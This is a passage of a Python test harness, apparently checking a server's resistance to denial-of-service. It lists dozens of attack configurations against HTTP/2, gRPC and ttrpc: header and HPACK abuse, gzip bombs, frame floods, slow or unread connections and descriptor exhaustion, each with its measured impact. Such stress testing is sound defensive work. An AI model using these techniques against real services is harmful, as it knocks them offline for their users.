        b"\0\0\0\x85\xffSMBr\0\0\0\0",  # SMB over NetBIOS
    )[index % 3]


def plenty_of_calls(index, facts):
    """Ordinary calls that are refused. At `debug` each makes a line in the log."""
    body, stream = request(MY_PROFILE), ids()
    while True:
        yield b"".join(ttrpc(body, next(stream)) for _ in range(100))
        yield 0.01


ATTACKS = (
    # MARK: section 2: no request stops the loop
    Attack("text of 128 KiB", 2, "everybody frozen for 5.7 s", long_text(128 << 10)),
    Attack("text of 256 KiB", 2, "everybody frozen for 28.6 s, SIGTERM too", long_text(256 << 10)),
    Attack("marks in every other text", 2, "83e714f: everybody waited for 3 s", texts_in_other_fields),
    Attack("requests of many fields", 2, "62e99395: p50 27 ms, without a session", many_fields),
    Attack("requests that grow in memory", 3, "899f5798: 3 GiB", requests_that_grow, connections=8, seconds=6, short_seconds=4),
    Attack("groups of many fields", 2, "85869bfd: not judged", fields_of_a_group),
    Attack("large requests of clients that leave", 2, "62e99395: busy for 17 s", large_requests),
    Attack("accept-language of 4 MiB", 2, "1 s for everybody, without a session", long_language),
    Attack("accept-language by HPACK's table", 2, "victim stalled 3.2 s by 47 KB/s", language_of_the_table),
    Attack("trailers by HPACK's table", 2, "cd98cb66: 168 ms for everybody, without a session", trailers_of_the_table),
    Attack("trailers with long names", 2, "85869bfd: not judged", trailers_with_long_names),
    Attack("the shortest HEADERS", 2, "ba825cdf: not judged", shortest_headers),
    Attack("DATA frames of a byte", 2, "ba825cdf: not judged", frames_of_a_byte, connections=4),
    Attack("colliding HTTP/2 stream ids", 2, "831c3353: not judged", colliding_http2_ids, connections=4),
    Attack("priorities of waiting streams", 2, "6617c72b: 1.3 s for everybody", priorities_of_waiting_streams, connections=4),
    Attack("files that are slow to close", 2, "6617c72b: everybody frozen as long as the client liked, SIGTERM too", slow_files, connections=2,
           every_connection_ends=True),
    Attack("start and cancel, 64 connections", 2, "p99 0.3 ms → 1.5 s", start_and_cancel, connections=64),
    Attack("gzip bombs, 16 connections", 2, "p50 7.1 s", bombs, connections=16),
    Attack("empty blocks in gzip, 4 connections", 2, "a077c042: not judged", empty_blocks, connections=4),
    Attack("gzip bombs in streams, 16 connections", 2, "2b5e97c2: p99 8 ms, 430 MiB", bombs_of_streams, connections=16),
    Attack("16,000 calls with the same deadline", 2, "a077c042: not judged", same_deadline, connections=16, redials=False),
    Attack("deadlines of 50 ms without a pause", 2, "85869bfd: not judged", short_deadlines, connections=16),
    Attack("small messages of streams", 2, "a4d85e83: 8 ms a burst", small_messages, connections=16),
    Attack("usernames typed without a pause", 2, "40531de3: p99 12 ms", typed_usernames, connections=4),
    Attack("pictures of 32 megapixels", 2, "6617c72b: not judged", pictures, connections=4),
    Attack("slow reads of the store", 2, "6617c72b: p99 8 ms", slow_reads),
    Attack("watches of one's own follows", 2, "2e2340fc: p99 15 ms", watched_follows, connections=5, redials=False),
    Attack("batches of one profile", 2, "70c8e389: p99 8 ms", batches_of_one, connections=16),
    Attack("batches of unknown users", 2, "70c8e389: busy for 1.6 s", batches_of_nobody, connections=64),
    Attack("lists of a hundred sessions", 2, "2e2340fc: p99 9 ms", long_lists),
    # MARK: section 3: memory
    Attack("1,000 watches with long names", 3, "3.9 GiB", many_watches, redials=False, seconds=6),
    Attack("metadata of running calls", 3, "1.2 GiB", kept_metadata, redials=False, seconds=6),
    Attack("1,000 half-sent frames", 3, "4.0 GiB, none closed after 75 s", half_a_frame, connections=1_000, scales=True, redials=False, seconds=20,
           short_seconds=14, every_connection_ends=True, longest_open=12),
    Attack("unfinished gRPC messages", 3, "2.6 GiB", half_a_message, connections=40, redials=False, seconds=16, short_seconds=4),
    Attack("60 clients without a window", 3, "3.1 GiB after 100 s", no_window, connections=60, reads="nothing", redials=False, seconds=10, short_seconds=4),
    Attack("ttrpc streams without a window", 3, "a4d85e83: not counted", no_ttrpc_window, connections=16, redials=False, seconds=8, short_seconds=4),
    Attack("loads in turn, 16 connections", 3, "3baef7af: 889 MiB, and all were kept", loads_in_turn, connections=16, seconds=10, short_seconds=4),
    Attack("500 clients that never read", 3, "600 MiB", never_reads, connections=500, reads="nothing", redials=False, seconds=6, short_seconds=3),
    Attack("connections that are over, on a full socket", 3, "0933cc7a: one connection stopped the loop for ever", ends_on_a_full_socket,
           connections=30, reads="nothing", redials=False, seconds=6, short_seconds=5),
    Attack("a window of one byte a second", 3, "never closed", narrow_window, connections=20, redials=False, seconds=76, every_connection_ends=True,
           longest_open=72, in_short_form=False),
    # MARK: section 3: places and descriptors
    Attack("every place for a call", 3, "health, sign-in and drain refused after 3 s", every_place, connections=80, seconds=6, short_seconds=4, needs_uids=True),
    Attack("every descriptor", 3, "nobody else accepted", says_nothing, connections=5_000, seconds=6, short_seconds=3, needs_uids=True),
    Attack("a process with many connections exits", 3, "a7541d11: p99 5 to 17 ms", exits, connections=256, seconds=6, short_seconds=4),
    Attack("calls of clients that leave at once", 3, "9af51169: new clients waited for seconds", calls_and_leaves, connections=256, seconds=6, short_seconds=4),
    Attack("watches with metadata that leave", 3, "7d4d0ee4: p99 42 ms", watches_and_leaves, connections=4, seconds=6, short_seconds=4),
    Attack("clients that leave beside ready work", 3, "6fb8b413: 671 MiB, because what was left counted for nobody", leaves_beside_ready_work,
           connections=18, seconds=12, short_seconds=4, memory=MEMORY_IN_PIECES),
    Attack("reads of clients that leave", 3, "7d4d0ee4: p99 10 ms", reads_and_leaves, connections=16, seconds=6, short_seconds=4),
    Attack("connections that say nothing", 3, "kept for ever", says_nothing, connections=200, redials=False, seconds=8, short_seconds=8,
           every_connection_ends=True, longest_open=7),
    # MARK: section 3: floods
    Attack("flood: resets by the server", 3, "never ended", resets_by_the_server, every_connection_ends=True),
    Attack("flood: WINDOW_UPDATE", 3, "never ended", flood(h2(H2_WINDOW_UPDATE, 0, 0, b"\0\0\0\1")), every_connection_ends=True),
    Attack("flood: PRIORITY_UPDATE", 3, "never ended", flood(h2(H2_PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1")), every_connection_ends=True),
    Attack("flood: unknown frames", 3, "never ended", flood(h2(H2_UNKNOWN, 0, 0, b"x")), every_connection_ends=True),
    Attack("flood: PING acknowledgements", 3, "never ended", flood(h2(H2_PING, ACK, 0, b"12345678")), every_connection_ends=True),
    Attack("flood: CONTINUATION", 3, "ended", continuations, every_connection_ends=True),
    Attack("flood: DATA on a closed stream", 3, "never ended", frames_on_closed_streams(H2_DATA, b"x"), every_connection_ends=True),
    Attack("flood: HEADERS on a closed stream", 3, "never ended", frames_on_closed_streams(H2_HEADERS, wire.headers(CHECK)), every_connection_ends=True),
    Attack("flood: PRIORITY on a closed stream", 3, "never ended", frames_on_closed_streams(H2_PRIORITY, b"\0\0\0\0\1"), every_connection_ends=True),
    Attack("flood: WINDOW_UPDATE on a closed stream", 3, "never ended", frames_on_closed_streams(H2_WINDOW_UPDATE, b"\0\0\0\1"), every_connection_ends=True),
    Attack("flood: unknown on a closed stream", 3, "never ended", frames_on_closed_streams(H2_UNKNOWN, b"x"), every_connection_ends=True),
    Attack("flood: one ttrpc id again and again", 3, "never ended", same_id, every_connection_ends=True),
    Attack("flood: colliding ttrpc ids", 3, "never ended", colliding_ids, every_connection_ends=True),
    Attack("flood: Data of no ttrpc stream", 3, "never ended", data_of_no_stream, every_connection_ends=True),
    Attack("flood: empty Data of a ttrpc stream", 3, "a4d85e83: never ended", empty_data, every_connection_ends=True),
    Attack("flood: refused calls", 3, "never ended", refused_calls, every_connection_ends=True),
    Attack("frames of other protocols", 3, "held", other_protocol, connections=200, redials=False, every_connection_ends=True, longest_open=1),
    # MARK: section 3: the rest
    Attack("a log that nobody reads", 3, "server and SIGTERM frozen", plenty_of_calls, connections=4, arguments=("--log-level", "debug", "--grace-period", "1"),
           unread_log=True),
    Attack("half-sent requests during a drain", 3, "drain waits for them", half_a_request, connections=50, redials=False,
           arguments=("--grace-period", "10"), stops_meanwhile=True, stops_within=2.5, latency=False),
    # MARK: one person behind a gateway, and the others behind it
    Attack("behind a gateway: requests of many fields", 2, "05f4b994: not judged", many_fields, gateway=True),
    Attack("behind a gateway: requests that grow in memory", 3, "05f4b994: others were refused, because one had all the memory of the gateway",
           requests_that_grow, connections=8, seconds=6, short_seconds=4, gateway=True),
    Attack("behind a gateway: unfinished messages", 3, "05f4b994: not judged", half_a_message, connections=40, redials=False, seconds=6,
           short_seconds=4, gateway=True),
    Attack("behind a gateway: half and whole requests", 3, "8ef30f0c: not judged", half_or_whole_requests, connections=48, redials=False, seconds=8,
           short_seconds=5, gateway=True),
    Attack("behind a gateway: start and cancel", 2, "05f4b994: p50 9 ms", start_and_cancel, connections=64, gateway=True),
    Attack("behind a gateway: gzip bombs", 2, "05f4b994: p50 6 ms", bombs, connections=16, gateway=True),
    Attack("behind a gateway: usernames typed", 2, "05f4b994: not judged", typed_usernames, connections=4, gateway=True),
    Attack("behind a gateway: batches of one profile", 2, "05f4b994: p50 4 ms", batches_of_one, connections=16, gateway=True),
    Attack("behind a gateway: batches of unknown users", 2, "05f4b994: p50 15 ms", batches_of_nobody, connections=64, gateway=True),
    Attack("behind a gateway: slow reads of the store", 2, "05f4b994: not judged", slow_reads, gateway=True),
    Attack("behind a gateway: reads of clients that leave", 3, "05f4b994: p50 7 ms", reads_and_leaves, connections=16, seconds=6, short_seconds=4,
           gateway=True),
    Attack("behind a gateway: every place for a call", 3, "8f2d551f: 553 of 1,200 calls of others refused", every_place, connections=80, seconds=6,
           short_seconds=4, gateway=True),
    Attack("behind a gateway: usernames typed, answers not read", 3, "8f2d551f: not judged", typed_usernames, connections=8, reads="nothing",
           redials=False, seconds=6, short_seconds=4, gateway=True),
    Attack("behind a gateway: health watches", 3, "05f4b994: not judged", watches_and_leaves, connections=4, seconds=6, short_seconds=4,
           gateway=True),
)
